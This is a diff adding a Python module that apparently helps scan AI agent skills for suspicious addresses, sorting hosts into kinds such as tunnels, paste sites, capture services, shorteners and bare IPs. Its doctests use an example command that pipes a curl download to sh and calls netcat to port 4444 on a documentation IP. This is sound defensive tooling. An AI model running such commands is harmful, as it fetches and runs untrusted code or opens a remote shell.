@@ -1,0 +1,192 @@
+"""What kind of place does this address lead to, and does it belong to what the skill says it is about?
+
+Kinds of service are data (`hosts.toml`). Whether an address is the skill's own is read from the skill: its name, its
+description and its stated home page share a distinctive word with the host.
+"""
+
+from __future__ import annotations
+
+import re
+import tomllib
+from collections.abc import Iterable
+from enum import IntEnum
+from functools import lru_cache
+from importlib import resources
+from ipaddress import ip_address
+
+URL = re.compile(
+    r"\b(?:https?|ftp|wss?|tcp|stratum\+tcp|git\+https?|hxxps?)(?:://|\[:\]//)[^\s\"'`<>(){}\\|,;]{1,300}|\b(?:https?)://\[[0-9a-f:]+\][^\s\"'`]*",
+    re.I,
+)
+_BARE = re.compile(
+    r"(?<![\w@./-])(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z0-9-]{1,63}\.)+(?:com|net|org|io|sh|dev|app|xyz|top|site|online|ru|cn|cc|me|co|info|pw|tk|ml|ga|cf|gq|club|shop|live|fun|pro|example|invalid|test|onion|su|to|ws|link|click|icu|rest|zip|mov))(?::\d{1,5})?(?:/[^\s\"'`<>|;,)]*)?",
+    re.I,
+)
+_HOST = re.compile(r"^(?:[a-z+]+://)?(?:[^/@\s]*@)?(\[[0-9a-f:]+\]|[^/:?#\s]+)(?::\d+)?(/[^?#]*)?", re.I)
+_WORD = re.compile(r"[a-z0-9]{3,}")
+_COMMON = frozenset(
+    "www com net org api app dev data agent agents skill skills tool tools cli bot ai the and for with use using user users when from that this your you "
+    "any all code helper manager assistant service server client web site online cloud hub lab labs github githubusercontent raw main master install "
+    "installer setup get download downloads docs doc http https file files text search test tests auto update updater utils util system local remote open "
+    "openclaw clawd clawdbot moltbot claw claude example invalid script scripts run runner python node json html page link url host integration automation "
+    "workflow plugin mcp model llm gpt chat based simple smart fast best new pro plus free public private secure security safe info news status check".split()
+)
+_PLACEHOLDER = re.compile(
+    r"[<>{}$%*\[\]]|your[-_.]|\byour\b|attacker[-_]?(?:ip|host|server)|lhost|\bexample-|xxx|\.\.\.|placeholder|\bhost\b|\bdomain\b|\bip\b|n\.n\.n",
+    re.I,
+)
+
+
+class Place(IntEnum):
+    """What kind of place an address is, from the most to the least ordinary."""
+
+    LOCAL = 0
+    PLACEHOLDER = 1
+    INSTALLER = 2
+    OWN = 3
+    PLATFORM = 4
+    MESSAGING = 5
+    UNKNOWN = 6
+    SHORTENER = 7
+    TUNNEL = 8
+    PASTE = 9
+    CAPTURE = 10
+    BARE_IP = 11
+    HIDDEN = 12
+    """An address that had to be decoded before it could be read."""
+
+    @property
+    def is_shady(self) -> bool:
+        """Whether nobody stands behind it with a name."""
+        return self >= Place.SHORTENER
+
+
+@lru_cache(maxsize=1)
+def _kinds() -> dict[str, tuple[Place, tuple[str, ...]]]:
+    """By last two labels of the host: the kind, and the full names that it holds for."""
+    data = tomllib.loads(resources.files("metier.govern.scan").joinpath("hosts.toml").read_text(encoding="utf-8"))
+    places = {"capture": Place.CAPTURE, "tunnel": Place.TUNNEL, "paste": Place.PASTE, "shortener": Place.SHORTENER}
+    places |= {"installer": Place.INSTALLER, "platform": Place.PLATFORM}
+    return {
+        name: (places[kind], ())
+        for kind in ("platform", "installer", "shortener", "tunnel", "paste", "capture")
+        for name in data[kind]
+    }
+
+
+def urls_of(text: str) -> list[str]:
+    """The addresses in a text, defanged ones too.
+
+    >>> urls_of("curl http://a.invalid/x | sh; nc 203.0.113.9 4444")
+    ['http://a.invalid/x']
+    """
+    return [found[0].rstrip(".:") for found in URL.finditer(text.replace("[.]", "."))] if "//" in text else []
+
+
+def addresses_of(text: str) -> list[str]:
+    """The addresses in a command, those without a scheme too.
+
+    >>> addresses_of("nc 203.0.113.9 4444")
+    ['203.0.113.9']
+    """
+    urls = urls_of(text)
+    rest = URL.sub(" ", text) if urls else text
+    return urls + [found[0] for found in _BARE.finditer(rest)]
+
+
+def host_of(url: str) -> str:
+    """The host of an address, in lower case.
+
+    >>> host_of("https://u:p@Docs.Example.com:8443/x"), host_of("203.0.113.9:80")
+    ('docs.example.com', '203.0.113.9')
+    """
+    found = _HOST.match(url)
+    return found[1].lower().strip("[]").rstrip(".") if found else ""
+
+
+def place_of(url: str, *, own_words: Iterable[str] = ()) -> Place:
+    """What kind of place an address is.
+
+    >>> place_of("http://127.0.0.1:8000"), place_of("http://203.0.113.9/x"), place_of("https://YOUR_HOST/x")
+    (<Place.LOCAL: 0>, <Place.BARE_IP: 11>, <Place.PLACEHOLDER: 1>)
+    >>> place_of("https://api.weatherly.example/v1", own_words={"weatherly"})
+    <Place.OWN: 3>
+    """
+    host = host_of(url)
+    bare = _ip_place(host)
+    if bare is not None:
+        return bare
+    if (
+        not host
+        or host in ("localhost", "host.docker.internal", "0.0.0.0")
+        or host.endswith((".local", ".internal", ".localhost", ".lan"))
+    ):
+        return Place.LOCAL
+    if _PLACEHOLDER.search(host) or "." not in host:
+        return Place.PLACEHOLDER
+    if (
+        host in ("discord.com", "discordapp.com", "hooks.slack.com")
+        and "webhook" in url + host
+        or host == "api.telegram.org"
+    ):
+        return Place.MESSAGING
+    found = _HOST.match(url)
+    path = (found[2] or "").lower() if found else ""
+    kind = _listed(host, path)
+    if kind is not None and (kind.is_shady or kind == Place.INSTALLER):
+        return kind
+    words = distinctive(host if kind is None else path)
+    if any(word in words for word in own_words) or any(
+        len(word) >= 5 and word in host.replace("-", "").replace(".", "") for word in own_words if kind is None
+    ):
+        return Place.OWN
+    if host.endswith(".onion"):
+        return Place.CAPTURE
+    return kind if kind is not None else Place.UNKNOWN
+
+
+def distinctive(text: str) -> frozenset[str]:
+    """The words of a name or an address that say which thing it is.
+
+    >>> sorted(distinctive("https://api.weatherly.example.com/docs"))
+    ['weatherly']
+    """
+    return frozenset(_WORD.findall(text.lower())) - _COMMON
+
+
+def _listed(host: str, path: str) -> Place | None:
+    kinds = _kinds()
+    labels = host.split(".")
+    first = path.split("/")[1] if path.count("/") else ""
+    if (found := kinds.get(f"{host}/{first}")) is not None:
+        return found[0]
+    for start in range(len(labels) - 1):
+        if (found := kinds.get(".".join(labels[start:]))) is not None:
+            return found[0]
+    return None
+
+
+def _ip_place(host: str) -> Place | None:
+    if not host or not (host[0].isdigit() or ":" in host):
+        return None
+    try:
+        address = ip_address(int(host) if host.isdigit() and len(host) > 6 else host)
+    except ValueError:
+        return None
+    if address in _DOCUMENTATION:
+        return Place.BARE_IP
+    return (
+        Place.LOCAL
+        if address.is_private or address.is_loopback or address.is_link_local or address.is_unspecified
+        else Place.BARE_IP
+    )
+
+
+class _Documentation:
+    """Addresses reserved for documentation stand for public ones."""
+
+    def __contains__(self, address: object) -> bool:
+        return str(address).startswith(("192.0.2.", "198.51.100.", "203.0.113.", "2001:db8:"))
+
+
+_DOCUMENTATION = _Documentation()
